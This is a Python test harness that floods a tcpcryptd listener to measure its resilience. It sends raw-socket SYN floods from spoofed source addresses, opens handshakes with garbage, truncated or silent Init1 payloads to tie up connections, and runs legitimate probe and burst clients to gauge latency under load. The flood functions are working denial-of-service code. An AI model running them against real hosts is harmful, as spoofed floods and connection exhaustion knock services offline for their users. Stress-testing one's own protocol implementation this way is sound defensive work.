#!/usr/bin/python3
"""Floods against a tcpcryptd listener, from raw sockets (no scapy: speed).

  flood.py syn DST PORT COUNT RATE SRCNET LO HI
      COUNT SYNs at about RATE per second from spoofed addresses
      SRCNET.LO .. SRCNET.HI and random ports; every other SYN carries a
      TCP-ENO option offering X25519 (RFC 8547 §4.1), the rest none.
  flood.py init1 SRC DST PORT CONNS RATE KIND HOLD
      CONNS connections from SRC (the caller drops its kernel's RSTs to
      DST), each completing the TCP handshake with TCP-ENO (X25519 in the
      SYN, an ENO option in the first ACK as RFC 8547 §4.4 asks of host A)
      and then, as host A, sending in the ACK:
        garbage   64 random bytes where Init1 belongs
        truncated the first 50 bytes of a well-formed Init1 (magic,
                  message_len, one AEAD, N_A, a random X25519 key), then
                  nothing more
        silent    nothing at all
      then it stays silent for HOLD seconds (answering nothing) and exits.
  flood.py probe HOST PORT SECONDS INTERVAL SESSID_OPT
      the legitimate client (run under tcpcrypt-run): a new connection
      every INTERVAL seconds, one echoed line each, the session ID read;
      one JSON line: tries, echoed, encrypted, latency figures in ms.
  flood.py burst HOST PORT N SESSID_OPT
      N legitimate connections released at once (under tcpcrypt-run), the
      same JSON line.

Each flood prints one JSON line with what it sent and saw.
"""
import json
import os
import random
import select
import socket
import struct
import sys
import time

ENO = 69
TEP_X25519 = 0x23
INIT1_MAGIC = 0x15101A0E
AEAD_AES_128_GCM = 0x0001


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def tcp_segment(src, dst, sport, dport, seq, ack, flags, options=b"", payload=b""):
    while len(options) % 4:
        options += b"\x01"  # NOP
    off = (20 + len(options)) // 4
    hdr = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, off << 4, flags, 65535, 0, 0)
    seg = hdr + options + payload
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(seg))
    c = csum(pseudo + seg)
    return seg[:16] + struct.pack("!H", c) + seg[18:]


def ip_packet(src, dst, seg, ident):
    hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(seg), ident & 0xFFFF, 0, 64, 6, 0,
                      socket.inet_aton(src), socket.inet_aton(dst))
    return hdr[:10] + struct.pack("!H", csum(hdr)) + hdr[12:] + seg


MSS = b"\x02\x04\x05\xb4"
FIN, SYN, RST, PSH, ACK = 0x01, 0x02, 0x04, 0x08, 0x10


def syn_flood(dst, port, count, rate, srcnet, lo, hi):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    rnd = random.Random(os.getpid())
    t0 = time.monotonic()
    eno = 0
    batch = max(1, rate // 100)
    for i in range(count):
        src = "%s.%d" % (srcnet, rnd.randint(lo, hi))
        opts = MSS
        if i % 2 == 0:
            opts += bytes([ENO, 3, TEP_X25519])
            eno += 1
        seg = tcp_segment(src, dst, rnd.randint(1024, 65535), port, rnd.getrandbits(32), 0, SYN,
                          opts)
        try:
            s.sendto(ip_packet(src, dst, seg, i), (dst, 0))
        except OSError:
            pass  # a full queue on the veth: the flood goes on
        if (i + 1) % batch == 0:
            ahead = (i + 1) / rate - (time.monotonic() - t0)
            if ahead > 0:
                time.sleep(ahead)
    dt = time.monotonic() - t0
    print(json.dumps({"mode": "syn", "sent": count, "with_eno": eno, "seconds": round(dt, 2),
                      "per_second": int(count / dt)}))


def init1_bytes(kind, rnd):
    if kind == "garbage":
        return bytes(rnd.getrandbits(8) for _ in range(64))
    if kind == "silent":
        return b""
    body = bytes([1]) + struct.pack("!H", AEAD_AES_128_GCM) + os.urandom(32) + os.urandom(32)
    whole = struct.pack("!II", INIT1_MAGIC, 8 + len(body)) + body
    return whole[:50]


def init1_flood(src, dst, port, conns, rate, kind, hold):
    tx = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
    rx = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
    rx.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 << 20)
    rnd = random.Random(os.getpid())
    ports = rnd.sample(range(10000, 65000), conns)
    state = {}  # sport -> our ISN
    stats = {"mode": "init1", "kind": kind, "syns": 0, "synacks": 0, "synacks_with_eno": 0,
             "completed": 0, "rsts": 0, "data_segments": 0}
    t0 = time.monotonic()

    def drain(timeout):
        r, _, _ = select.select([rx], [], [], timeout)
        while r:
            try:
                pkt = rx.recv(65535, socket.MSG_DONTWAIT)
            except BlockingIOError:
                break
            ihl = (pkt[0] & 0x0F) * 4
            if socket.inet_ntoa(pkt[12:16]) != dst:
                continue
            tcp = pkt[ihl:]
            sport, dport, seq, ack, off, flags = struct.unpack("!HHIIBB", tcp[:14])
            if sport != port or dport not in state:
                continue
            doff = (off >> 4) * 4
            if flags & RST:
                stats["rsts"] += 1
                continue
            if len(tcp) > doff:
                stats["data_segments"] += 1
            if flags & (SYN | ACK) == SYN | ACK and state[dport] is not None:
                stats["synacks"] += 1
                opts = tcp[20:doff]
                if bytes([ENO]) in opts:
                    stats["synacks_with_eno"] += 1
                isn = state[dport]
                state[dport] = None
                seg = tcp_segment(src, dst, dport, port, isn + 1, seq + 1, ACK | PSH,
                                  bytes([ENO, 2]), init1_bytes(kind, rnd))
                tx.sendto(seg, (dst, 0))
                stats["completed"] += 1

    for i, sp in enumerate(ports):
        isn = rnd.getrandbits(32)
        state[sp] = isn
        tx.sendto(tcp_segment(src, dst, sp, port, isn, 0, SYN, MSS + bytes([ENO, 3, TEP_X25519])),
                  (dst, 0))
        stats["syns"] += 1
        while True:
            ahead = (i + 1) / rate - (time.monotonic() - t0)
            drain(max(0.0, ahead))
            if ahead <= 0:
                break
    stats["send_seconds"] = round(time.monotonic() - t0, 2)
    end = time.monotonic() + hold
    while time.monotonic() < end:
        drain(min(0.2, max(0.0, end - time.monotonic())))
    print(json.dumps(stats))


def echo_once(host, port, line, timeout, sessid_opt):
    """One legitimate connection: send line, read it back.  Returns
    (echoed, encrypted, milliseconds); raises OSError."""
    t = time.monotonic()
    with socket.create_connection((host, port), timeout) as s:
        s.settimeout(timeout)
        s.sendall(line)
        got = b""
        while not got.endswith(b"\n"):
            chunk = s.recv(100)
            if not chunk:
                break
            got += chunk
        ms = (time.monotonic() - t) * 1000
        try:
            s.getsockopt(socket.IPPROTO_TCP, sessid_opt, 33)
            enc = True
        except OSError:
            enc = False
    return got == line, enc, ms


def report(tries, results, errors):
    """results: (echoed, encrypted, ms) of each connection that got through."""
    lat = sorted(r[2] for r in results if r[0])
    print(json.dumps({"tries": tries, "echoed": sum(r[0] for r in results),
                      "encrypted": sum(r[0] and r[1] for r in results), "errors": errors,
                      "median_ms": round(lat[len(lat) // 2], 1) if lat else None,
                      "max_ms": round(lat[-1], 1) if lat else None}))


def probe(host, port, seconds, interval, sessid_opt):
    results, tries, errors = [], 0, {}
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        tries += 1
        t = time.monotonic()
        try:
            results.append(echo_once(host, port, b"probe-%d\n" % tries, 5, sessid_opt))
        except OSError as e:
            errors[type(e).__name__] = errors.get(type(e).__name__, 0) + 1
        time.sleep(max(0.0, interval - (time.monotonic() - t)))
    report(tries, results, errors)


def burst(host, port, n, sessid_opt):
    """n legitimate connections at once (threads released together)."""
    import threading
    go = threading.Barrier(n)
    lock = threading.Lock()
    results, errors = [], {}

    def one(i):
        go.wait()
        try:
            r = echo_once(host, port, b"burst-%d\n" % i, 10, sessid_opt)
            with lock:
                results.append(r)
        except OSError as e:
            with lock:
                errors[type(e).__name__] = errors.get(type(e).__name__, 0) + 1

    threads = [threading.Thread(target=one, args=(i,)) for i in range(n)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    report(n, results, errors)


def main():
    a = sys.argv[1:]
    if a and a[0] == "syn" and len(a) == 8:
        syn_flood(a[1], int(a[2]), int(a[3]), int(a[4]), a[5], int(a[6]), int(a[7]))
    elif a and a[0] == "init1" and len(a) == 8:
        init1_flood(a[1], a[2], int(a[3]), int(a[4]), int(a[5]), a[6], float(a[7]))
    elif a and a[0] == "burst" and len(a) == 5:
        burst(a[1], int(a[2]), int(a[3]), int(a[4], 0))
    elif a and a[0] == "probe" and len(a) == 6:
        probe(a[1], int(a[2]), float(a[3]), float(a[4]), int(a[5], 0))
    else:
        print(__doc__, file=sys.stderr)
        return 2
    return 0


if __name__ == "__main__":
    sys.exit(main())
